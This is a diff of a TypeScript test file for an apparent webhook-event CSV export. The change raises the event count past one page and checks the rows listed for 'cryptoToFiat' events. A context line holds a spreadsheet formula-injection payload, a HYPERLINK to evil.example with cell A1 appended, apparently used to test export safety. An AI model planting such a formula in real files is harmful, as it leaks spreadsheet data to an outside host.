@@ -18,6 +18,8 @@ const START_MAX_MS = 120_000;
 const FLOW_MAX_MS = 240_000;
 const WAIT_MAX_MS = 60_000;
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+/** Three endpoints get each of these events, and a page has 100 deliveries. */
+const MORE_THAN_A_PAGE = 40;
 /** Parts of a response that is sent slowly: a replay waits for its attempts. */
 const SLOW = Array.from({ length: 40 }, () => '.');
 
@@ -195,11 +197,13 @@ describe.skipIf(path === undefined)('a file', { timeout: FLOW_MAX_MS }, () => {
   });
 
   test('of all that happened has the pages behind the first, and what was not sent', async () => {
-    for (let sent = 0; sent < 30; sent += 1) await send('fiatToCrypto/PENDING');
+    for (let sent = 0; sent < MORE_THAN_A_PAGE; sent += 1) await send('cryptoToFiat/PENDING');
     const { page, faults, context } = await signedIn({ acceptDownloads: true });
     const [names = [], ...rows] = parsedCsv((await saved(page, 'CSV')).text, ',');
     const results = new Set(rows.map((row) => row[names.indexOf('result')]));
-    expect(rows.length).toBeGreaterThan(100);
+    const isListed = (row: readonly string[]) =>
+      row[names.indexOf('type')] === 'cryptoToFiat' && row[names.indexOf('endpoint_uuid')] === formula;
+    expect(rows.filter(isListed).length).toBe(MORE_THAN_A_PAGE);
     for (const result of ['failed', 'filtered', 'delivered']) expect(results).toContain(result);
     expect(new Set(rows.map((row) => row.join())).size).toBe(rows.length);
     expect(faults).toEqual([]);
